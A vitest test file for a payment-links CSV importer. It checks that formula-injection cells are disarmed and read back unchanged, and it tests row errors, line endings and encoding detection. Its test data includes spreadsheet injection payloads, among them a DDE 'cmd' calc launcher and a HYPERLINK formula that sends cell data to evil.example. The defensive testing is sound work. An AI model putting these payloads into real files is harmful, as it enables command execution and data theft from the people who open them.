import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { decode, parseFile, parseText, problemOf, rowsAsCsv } from "@/components/payment-links/import-file";
import { disarmed, rearmed } from "@/lib/core/csv-text";
import { payloads } from "@/tests/support/payloads";

const formulas = [
  "=1+1",
  "+49 1555",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "\u00a0=1",
  "\u3000=1",
  "\ufeff=1",
  "\u200b=1",
  "\u202e=1",
  '"=1',
  "'=1",
  "''=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  " ＝1",
  "a;=1+1",
  "a; =1+1;b",
  "a\t=1+1",
  "two lines\n=1",
  "two lines\r\n-1",
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
];

/** What a spreadsheet does with a cell, whichever separator it expects. */
const runs = (cell: string): boolean =>
  cell.split(/[;\t\r\n]/).some((part) => /^[\s\p{C}"]*[=+\-@＝＋－＠]/u.test(part));

const harmless = [
  "Order 1001",
  "a=b",
  "'quoted'",
  "O'Brien",
  "a, -5",
  "5 - 3",
  "",
  "Käse 🧀",
  'say "hi"',
  "x@example.com",
];

describe("a text as a cell", () => {
  it.each(formulas)("%j is never executed, and reads back unchanged", (text) => {
    expect(runs(text) || text.startsWith("'")).toBe(true);
    expect(runs(disarmed(text))).toBe(false);
    expect(rearmed(disarmed(text))).toBe(text);
  });

  it.each(harmless)("%j is unchanged", (text) => {
    expect(disarmed(text)).toBe(text);
    expect(rearmed(text)).toBe(text);
  });

  it("reads back unchanged and is never executed, for any text", () => {
    const signs = fc.constantFrom(..."='\"+-@;\t\r\n ,a＝＋－＠\u00a0\u202e\ufeff\u0000");
    const words = fc.oneof(
      fc.array(signs, { maxLength: 12 }).map((list) => list.join("")),
      fc.string({ unit: "binary" }),
    );
    fc.assert(
      fc.property(words, (text) => {
        expect(runs(disarmed(text))).toBe(false);
        expect(rearmed(disarmed(text))).toBe(text);
      }),
      { numRuns: 20_000 },
    );
  });

  it("reads back unchanged from a file with other cells", () => {
    const signs = fc.constantFrom(..."='\"+-@;\t\r\n ,a|＝\u202e\ufeff");
    const words = fc.oneof(
      fc.constantFrom(...formulas, ...payloads),
      fc.array(signs, { minLength: 1, maxLength: 12 }).map((list) => list.join("")),
    );
    const columns = ["email", "title", "description", "reference"];
    fc.assert(
      fc.property(fc.array(fc.tuple(words, words, words), { minLength: 1, maxLength: 6 }), (lines) => {
        const rows = lines.map((line) => ["ada@example.com", ...line]);
        const text = Papa.unparse([columns, ...rows.map((row) => row.map(disarmed))], { newline: "\r\n" });
        const back = parseText(`\ufeff${text}`);
        const cells = back.rows.map(({ cells }) => columns.map((name) => cells[name]));
        expect([cells, back.broken]).toEqual([rows, null]);
        const again = parseText(rowsAsCsv(back, back.rows));
        expect(again.rows.map(({ cells }) => columns.map((name) => cells[name]))).toEqual(rows);
      }),
      { numRuns: 3_000 },
    );
  });
});

it("removes spaces around a value, and keeps those of a text", () => {
  const [row] = parseText("email,title,language,tax_percent\r\n ada@example.com , Order ,de , 19\r\n").rows;
  expect(row?.cells).toEqual({ email: "ada@example.com", title: " Order ", language: "de", tax_percent: "19" });
});

describe("a file that is not read as it was meant", () => {
  const heading = "email,title,currency,amount";

  it.each([
    ["a decimal comma without quotes", "ada@example.com,One,EUR,5\nada@example.com,Two,EUR,10,50", 3],
    ["an amount in two cells", "ada@example.com,One,EUR,1,000.00", 2],
    ["a blank cell behind an amount in two cells", "ada@example.com,One,EUR,10,50,,,,", 2],
  ])("has a row with more cells than names: %s", (_, rows, row) => {
    for (const more of ["", ",", ", ,"])
      expect(parseText(`${heading}${more}\n${rows}\n`).broken).toEqual({ problem: "moreCells", row });
  });

  it.each([
    ["is never closed", 'ada@example.com,"One,EUR,5\nada@example.com,Two,EUR,6\n', 2],
    ["is closed within the cell", 'ada@example.com,One,EUR,5\nada@example.com,"Two" more,EUR,6\n', 3],
  ])("has a quote that %s", (_, rows, row) => {
    expect(parseText(`${heading}\n${rows}`).broken).toEqual({ problem: "quotes", row });
  });

  it("says which row is broken, once the columns are right", () => {
    const t = ((key: string, values: object) => `${key} ${JSON.stringify(values)}`) as never;
    expect(problemOf(t, parseText(`${heading}\nada@example.com,One,EUR,10,50`))).toBe('moreCells {"row":"2"}');
    expect(problemOf(t, parseText(`email,title\nada@example.com,One,EUR`))).toMatch(/^missingColumns /);
    expect(problemOf(t, parseText(`${heading}\nada@example.com,One,EUR,10`))).toBeNull();
  });

  it("may have blank cells behind its last column in every line, as spreadsheets write them", () => {
    const { rows, broken } = parseText(`${heading},,\nada@example.com,One,EUR,5,, \n,,,,,,,\n`);
    expect([rows.length, broken]).toEqual([1, null]);
  });
});

it.each([
  ["\r\n", "\n"],
  ["\n", "\r\n"],
  ["\r", "\n"],
])("reads a heading that ends with %j above rows that end with %j", (first, other) => {
  const lines = ['ada@example.com;5;"a\r\nb\nc ""d"""', "ada@example.com;6;Two", '"ada@example.com";7;"Three"', ""];
  const { rows, broken } = parseText(`email;amount;title${first}${lines.join(other)}`);
  expect(broken).toBeNull();
  expect(rows.map(({ row, cells }) => [row, cells.amount, cells.title])).toEqual([
    [2, "5", 'a\r\nb\nc "d"'],
    [3, "6", "Two"],
    [4, "7", "Three"],
  ]);
});

describe("a file's encoding", () => {
  const words = "email,currency,amount,title\r\nada@example.com,EUR,10.50,Käse für Zürich\r\n";
  const units = new Uint8Array(Uint16Array.from(words, (letter) => letter.charCodeAt(0)).buffer);
  const latin = Uint8Array.from(words, (letter) => letter.charCodeAt(0));
  const files: [how: string, bytes: Uint8Array<ArrayBuffer>][] = [
    ["UTF-8", new TextEncoder().encode(words)],
    ["UTF-8 with its mark", new TextEncoder().encode(`\ufeff${words}`)],
    ["UTF-16 with its mark", Uint8Array.from([0xff, 0xfe, ...units])],
    [
      "UTF-16, the other end first",
      Uint8Array.from([0xfe, 0xff, ...Array.from(words, (one) => [0, one.charCodeAt(0)]).flat()]),
    ],
  ];

  it.each(files)("is certain: %s", (_, bytes) => {
    expect(decode(bytes.buffer)).toEqual({ text: words, certain: true });
  });

  it("falls back to Windows-1252, with samples shown", async () => {
    expect(decode(latin.buffer)).toEqual({ text: words, certain: false });
    const more = Uint8Array.from([
      ...latin,
      ...latin,
      ...Array.from("a,b,c,\xe9t\xe9\r\n", (one) => one.charCodeAt(0)),
    ]);
    const { uncertain, rows } = await parseFile(new File([more], "invoices.csv"));
    expect(uncertain).toEqual(["Käse für Zürich", "été"]);
    expect(rows[0]?.cells.title).toBe("Käse für Zürich");
    expect((await parseFile(new File([words], "invoices.csv"))).uncertain).toEqual([]);
  });
});
